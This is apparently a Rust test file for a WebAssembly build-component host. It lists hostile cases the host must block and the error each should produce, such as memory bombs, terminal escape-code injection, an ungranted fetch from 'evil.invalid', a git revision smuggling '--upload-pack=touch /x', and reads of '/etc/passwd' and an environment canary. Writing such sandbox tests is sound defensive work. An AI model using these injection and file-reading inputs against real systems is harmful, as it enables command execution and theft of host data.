//! What a component does to the machine that runs it.

use dibhost_check::Check;
use serde_json::json;

use crate::case::{Case, HOSTILE, bare, call, loot};
use crate::cases::rootfs::{apply, folder};

/// It has a limit of its own.
fn limited(check: Check, name: &'static str, limit: &str) -> Case {
    Case::on(check, name).defines(&format!("[limits.elements.{HOSTILE}]\n{limit}\n"))
}

pub(crate) fn all() -> Vec<Case> {
    vec![
        Case::on(Check::RunTime, "an_endless_loop")
            .runs([call("Spin", json!({"turns": u64::MAX}))])
            .args(&["--step-timeout", "1"])
            .says("ran longer than 1 s in `run(root)`")
            .goes_on(),
        Case::on(Check::Memory, "a_memory_bomb")
            .runs([call("Allocate", 200 << 20)])
            .says("asked for more than 64 MiB of memory in `run(root)`"),
        Case::on(Check::Memory, "a_memory_bomb_while_planning")
            .plans([call("Allocate", 200 << 20)])
            .says("asked for more than 64 MiB of memory in `plan(root)`"),
        Case::on(Check::Handles, "twenty_thousand_handles")
            .runs([call("Repeat", json!({"times": 20_000, "call": call("Span", "x")}))])
            .says("resource table has no free keys"),
        Case::on(Check::BlobBytes, "more_blobs_than_the_host_holds")
            .runs([call("Repeat", json!({"times": 33, "call": call("BlobOf", 16 << 20)}))])
            .says("had the host hold more than 384 MiB of blobs in `run(root)`"),
        Case::on(Check::CallBytes, "a_blob_of_more_than_a_call_hands_over")
            .runs([call("BlobOf", (16 << 20) + 1)])
            .says("one call hands over at most 16 MiB"),
        limited(Check::Fuel, "more_instructions_than_a_step_has", "fuel = 1000000")
            .runs([call("Spin", json!({"turns": 10_000_000}))])
            .says("needed more than 1000000 units of fuel in `run(root)`"),
        limited(Check::Files, "more_files_than_a_step_makes", "files = 3")
            .may("rootfs", "write /")
            .runs([call("Open", "/"), apply(&["/a", "/b", "/c", "/d"].map(folder))])
            .says("made more than 3 files in the target in `run(root)`"),
        // The default limit of 250,000.
        Case::on(Check::Files, "a_million_files")
            .may("rootfs", "write /")
            .runs([
                call("Open", "/"),
                call(
                    "Repeat",
                    json!({"times": 200, "call": call("Crowd", json!({"prefix": "/{n}-", "count": 5000}))}),
                ),
            ])
            .says("made more than 250000 files in the target in `run(root)`"),
        limited(Check::Written, "more_bytes_than_a_step_writes", "written = \"1KiB\"")
            .may("rootfs", "write /")
            .runs([call("Open", "/"), call("BlobOf", 4096), call("Place", "/x")])
            .says("wrote more than 1 KiB into the target in `run(root)`"),
        limited(
            Check::OutputBytes,
            "more_bytes_than_a_step_puts_beside_the_image",
            "outputs = \"1KiB\"",
        )
        .may("outputs", ".x")
        .runs([call("BlobOf", 4096), call("Emit", ".x")])
        .says("put more than 1 KiB beside the image in `run(root)`"),
        Case::on(Check::LiftedBytes, "a_short_list_of_one_long_string")
            .runs([call("Amplify", json!({"times": 4096, "bytes": 32 << 10}))])
            .says("in `run(root)`"),
        Case::on(Check::LogLines, "a_hundred_thousand_lines")
            .runs([
                call("Repeat", json!({"times": 20_000, "call": call("Print", "flood")})),
                call("Fail", "all said"),
            ])
            .says("logged more than 10000 lines in `run(root)`")
            .gets_out(|_, outcome| outcome.stderr.contains("all said")),
        Case::on(Check::TerminalCodes, "an_escape_code_in_an_error")
            .runs([call("Fail", "\u{1b}[2J\u{1b}]0;owned\u{7}")])
            .says("\\u{1b}[2J\\u{1b}]0;owned\\u{7}")
            .gets_out(|_, outcome| outcome.stderr.contains('\u{1b}')),
        Case::on(Check::TerminalCodes, "an_escape_code_in_the_log")
            .runs([call("Log", "\u{1b}[31mall is well\u{202e}"), call("Fail", "after the log")])
            .says("\\u{1b}[31mall is well\\u{202e}")
            .gets_out(|_, outcome| outcome.stderr.contains('\u{1b}')),
        Case::on(Check::TerminalCodes, "an_escape_code_in_a_panic")
            .runs([call("Panic", "\u{1b}[2Jgone")])
            .says("\\u{1b}[2Jgone")
            .gets_out(|_, outcome| outcome.stderr.contains('\u{1b}')),
        Case::on(Check::FetchGrant, "a_download_that_nobody_granted")
            .runs([call("Fetch", "https://evil.invalid/x")])
            .says("`fetch` of `evil.invalid` is not granted")
            .second_wall("`fetch` of `unpinned` is not granted"),
        Case::on(Check::FetchUnpinned, "whatever_there_is_from_a_host_that_is_granted")
            .may("fetch", "evil.invalid")
            .runs([call("Fetch", "https://evil.invalid/x")])
            .says("`fetch` of `unpinned` is not granted")
            .second_wall("`https://evil.invalid/x` could not be fetched"),
        Case::on(Check::FetchRevision, "a_revision_that_is_an_option_of_git")
            .may("fetch", "evil.invalid")
            .may("fetch", "unpinned")
            .runs([call(
                "FetchCommit",
                json!({"url": "https://evil.invalid/x", "revision": "--upload-pack=touch /x"}),
            )])
            .says("the revision `--upload-pack=touch /x` has ' ' in it")
            .second_wall("`https://evil.invalid/x` could not be fetched"),
        Case::on(Check::WasiEnvironment, "the_builder_s_environment")
            .runs([call("Variable", loot::VARIABLE)])
            .says("`DIBHOST_TEST_CANARY`: environment variable not found")
            .gets_out(|_, outcome| outcome.stderr.contains(loot::CANARY)),
        Case::on(Check::WasiFiles, "the_builder_s_files")
            .runs([call("HostFile", "/etc/passwd")])
            .says("opening `/etc/passwd` by WASI")
            .gets_out(|_, outcome| outcome.stderr.contains("root:x:0:0")),
        Case::held_by("wasmtime", "a_recursion_without_end")
            .runs([bare("Recurse")])
            .says("trapped in `run(root)`"),
        Case::held_by("wasmtime", "a_handle_that_nobody_gave")
            .may("rootfs", "write /")
            .runs([call("ForgedTree", 77)])
            .says("unknown handle index 77"),
        Case::held_by("wasmtime", "a_handle_of_another_kind")
            .may("rootfs", "write /")
            .runs([call("Open", "/"), bare("WrongHandle")])
            .says("handle index"),
        Case::held_by("wasmtime", "a_handle_that_was_given_back")
            .may("rootfs", "write /")
            .runs([call("Open", "/"), bare("UseAfterDrop")])
            .says("unknown handle index"),
        Case::held_by("wasmtime", "a_string_of_a_gibibyte_that_is_not_there")
            .runs([bare("StringBeyondMemory")])
            .says("out of bounds"),
    ]
}
